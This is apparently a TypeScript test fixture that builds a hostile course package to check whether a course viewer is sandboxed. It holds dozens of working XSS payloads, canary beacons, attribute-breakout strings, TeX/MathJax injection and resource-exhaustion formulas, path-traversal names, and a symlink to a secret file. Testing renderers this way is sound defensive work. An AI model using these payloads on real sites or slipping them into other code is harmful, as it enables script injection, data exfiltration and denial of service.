/** A course that tries everything to run, to reach out and to reach in; each trick once, each with a canary of its own. */
import { symlinkSync } from 'node:fs';
import { join } from 'node:path';
import { courseFolder, unitCourse } from './courses.js';

/** Ways to run or to load without anybody's doing, as a page without protection would let them. */
export function tricks(canary: string): Readonly<Record<string, string>> {
  // A frame may reach the page around it, so a script that runs in one shows there.
  const pwn = `${PWN};new Image().src='${canary}/ran'`;
  return {
    preconnect: `<link rel="preconnect" href="${canary}">`,
    script: `<script>${pwn};try{top.document.title='pwned'}catch{}</script>`,
    'script from elsewhere': `<script src="${canary}/script.js"></script>`,
    'module script': `<script type="module">import '${canary}/module.js'</script>`,
    'event handler': `<img src="data:x" onerror="${pwn}">`,
    'svg onload': `<svg onload="${pwn}"></svg>`,
    'details ontoggle': `<details open ontoggle="${pwn}">x</details>`,
    'frame with javascript:': `<iframe src="javascript:void(${PWN})"></iframe><img src="${canary}/img">`,
    'frame with srcdoc': `<iframe srcdoc="<script>${pwn}</script><img src=${canary}/srcdoc>"></iframe>`,
    'frame from elsewhere': `<iframe src="${canary}/frame"></iframe>`,
    object: `<object data="${canary}/object"></object>`,
    embed: `<embed src="${canary}/embed">`,
    picture: `<img src="${canary}/picture.png">`,
    'picture set': `<img srcset="${canary}/set.png 1x">`,
    video: `<video src="${canary}/video.mp4" poster="${canary}/poster.png" autoplay></video>`,
    audio: `<audio src="${canary}/audio.mp3" autoplay></audio>`,
    'style sheet': `<link rel="stylesheet" href="${canary}/style.css">`,
    'style import': `<style>@import url("${canary}/import.css");</style>`,
    'style picture': `<p style="background:url(${canary}/background.png)">x</p>`,
    font: `<style>@font-face{font-family:f;src:url(${canary}/font.woff)} .f{font-family:f}</style><p class="f">x</p>`,
    prefetch: `<link rel="prefetch" href="${canary}/prefetch">`,
    preload: `<link rel="preload" as="image" href="${canary}/preload.png">`,
    'meta refresh': `<meta http-equiv="refresh" content="0;url=${canary}/refresh">`,
    base: `<base href="${canary}/"><img src="base.png">`,
    'picture button': `<form action="${canary}"><input type="image" src="${canary}/button.png"></form>`,
    'svg image': `<svg><image href="${canary}/svg.png"></image></svg>`,
    'svg use': `<svg><use href="${canary}/use.svg#a"></use></svg>`,
    track: `<video src="data:video/mp4,"><track default src="${canary}/track.vtt"></video>`,
    'table background': `<table background="${canary}/table.png"><tr><td>x</table>`,
    'end of the document': `</body></html><script>${pwn}</script>`,
    'unclosed comment': `<!-- --!><script>${pwn}</script>`,
    'frame set': `</head><frameset><frame src="${canary}/frameset"></frameset>`,
  };
}

/** Ways to get a link, a file, a script, an identifier or endless work out of a formula. */
export function formulaTricks(canary: string): Readonly<Record<string, string>> {
  return {
    'link to a script': `\\href{javascript:${PWN}}{x}`,
    'link to elsewhere': `\\href{${canary}/href}{x}`,
    url: `\\url{${canary}/url}`,
    'picture from elsewhere': `\\includegraphics[height=1em]{${canary}/picture.png}`,
    identifier: '\\htmlId{main}{x}',
    'identifier of MathJax': '\\cssId{main}{x}',
    'id of temml': '\\id{main}{x}',
    'class of the page': '\\class{olx-notice}{x}',
    'data attribute': '\\data{pwned=yes}{x}',
    'style with a picture': `\\style{background:url(${canary}/style.png)}{x}`,
    'style of KaTeX': `\\htmlStyle{background:url(${canary}/html-style.png)}{x}`,
    'markup in text': `\\text{<img src="${canary}/text.png" onerror="${PWN}">}`,
    'markup as entities': `\\text{&lt;script>${PWN}&lt;/script>}`,
    'markup in a command': `\\<script>${PWN}</script>`,
    'markup that ends the formula': `</math><script>${PWN}</script>`,
    'end of the attribute': `\\color{red" onclick="${PWN}}{x}`,
    'colour with a picture': `\\textcolor{url(${canary}/colour.png)}{x}`,
    'box with a picture': `\\colorbox{url(${canary}/box.png)}{x}`,
    'label that ends the attribute': `x\\label{a" onclick="${PWN}}`,
    'reference that ends the attribute': `\\ref{a' onmouseover='${PWN}}`,
    'tag with markup': `x\\tag{<b onclick="${PWN}">1</b>}`,
    'verbatim markup': `\\verb|<img src=${canary}/verb.png>|`,
    'box of MathJax': `\\bbox[background:url(${canary}/bbox.png)]{x}`,
    'code of MathJax': '\\require{html}\\require{unicode}\\unicode[url(x)]{x3c}script',
    'characters as numbers': '\\char"3C script\\char"3E alert(1)',
    'name of a prototype': '\\__proto__ \\constructor \\begin{constructor}a\\end{constructor}',
    'macro without an end': '\\def\\a{\\a\\a}\\a',
    'macro that multiplies': '\\def\\a#1{#1#1#1#1#1#1#1#1}\\a{\\a{\\a{\\a{\\a{\\a{\\a{\\a{x}}}}}}}}',
    'macro that expands at once': '\\edef\\a{xxxxxxxx}\\edef\\a{\\a\\a\\a\\a}\\edef\\a{\\a\\a\\a\\a}\\a',
    'macro for all formulas': '\\gdef\\frac#1#2{gone}\\global\\let\\sqrt\\frac',
    'new command': `\\newcommand{\\x}{\\href{javascript:${PWN}}{x}}\\x`,
    'huge space': 'a\\kern{99999em}b\\hspace{99999em}c\\\\[99999em]d',
    'huge rule': '\\rule{99999em}{99999em}\\raisebox{99999em}{x}',
    'huge table': '\\begin{array}{*{9999}{c}}a\\end{array}',
    'deep nesting': `${'{'.repeat(1400)}x${'}'.repeat(1400)}`,
    'deep roots': '\\sqrt'.repeat(590),
  };
}

/** Ways that need a click. */
export function traps(canary: string): string {
  return `<a class="trap" href="javascript:void(${PWN})">javascript</a>
<a class="trap" href="${canary}/top" target="_top">top</a> <a class="trap" href="${canary}/self" target="_self">self</a>
<a class="trap" href="${canary}/parent" target="_parent">parent</a> <a class="trap" href="${canary}/blank">blank</a>
<a class="trap" href="/" ping="${canary}/ping" target="_self">ping</a> <a class="trap" href="${canary}/download" download>download</a>
<form action="${canary}/form" method="post" target="_top"><button class="trap">post</button></form>
<form action="${canary}/get"><button class="trap">get</button></form>
<form action="/"><button class="trap" formaction="javascript:void(${PWN})">button</button></form>`;
}

const PWN = `top.document.documentElement.dataset.pwned='yes'`;
const EVIL = `&quot;>&lt;script>document.title='pwned'&lt;/script>&lt;img src=x onerror=document.title='pwned'>`;

/** @returns the folder, and the secret that lies beside the course */
export function hostileCourse(canary: string): { readonly folder: string; readonly secret: string } {
  const secret = 'the secret beside the course';
  const all = Object.values(tricks(canary));
  // What ends the document or opens a frame set would hide the rest, so every trick has a block of its own.
  const blocks = all.map((_, index) => `<html url_name="h${index}"/>`).join('');
  const files: Record<string, string> = { 'secret.txt': secret, 'secret.xml': `<html>${secret}</html>` };
  for (const [index, trick] of all.entries()) {
    files[`course/html/h${index}.xml`] = `<html filename="h${index}" display_name="${EVIL}"/>`;
    files[`course/html/h${index}.html`] = trick;
  }
  const formulas = Object.values(formulaTricks(canary)).map(
    (tex) => `<p>\\(${tex}\\) [mathjax]${tex}[/mathjax]</p>`,
  );
  files['course/html/formulas.xml'] = '<html filename="formulas"/>';
  files['course/html/formulas.html'] = formulas.join('\n');
  const unit = `<abtest url_name="ab" experiment="${EVIL}" display_name="${EVIL}"><group name="${EVIL}" portion="0.5">${blocks}<html url_name="formulas"/></group>
<group name="traps" portion="${EVIL}"><html url_name="traps"/><problem url_name="${'p'}"/>
<video url_name="v" display_name="${EVIL}" youtube_id_1_0="${EVIL}" html5_sources='["javascript:document.title=1"]'/><x url_name="${EVIL}" onload="${EVIL}"/></group>
<default><html url_name="../../secret"/><html url_name="up" filename="../../secret"/><problem url_name="..%2f..%2fsecret"/></default></abtest>`;
  Object.assign(files, {
    'course/html/traps.xml': '<html filename="traps"/>',
    'course/html/traps.html': `${traps(canary)}<img src="/static/../../secret.txt"><img src="/static/link.png"><img width="99999999" height="99999999" src="/static/huge.svg">`,
    'course/problem/p.xml': `<problem display_name="P"><script type="text/javascript">document.title='pwned'</script><p onclick="${PWN}">text</p><a class="trap" href="javascript:void(${PWN})">x</a><img src="${canary}/problem.png" onerror="${PWN}"/><multiplechoiceresponse><choicegroup><choice correct="true"><![CDATA[<script>document.title='pwned'</script>]]></choice></choicegroup></multiplechoiceresponse></problem>`,
    'course/static/huge.svg': `<svg xmlns="http://www.w3.org/2000/svg" width="90000" height="90000" onload="${PWN}"><script>${PWN}</script><image href="${canary}/inner.png"/></svg>`,
  });
  for (const [path, text] of Object.entries(unitCourse(unit))) files[`course/${path}`] = text as string;
  const folder = courseFolder(files);
  symlinkSync(join(folder, 'secret.txt'), join(folder, 'course/static/link.png'));
  return { folder: join(folder, 'course'), secret };
}
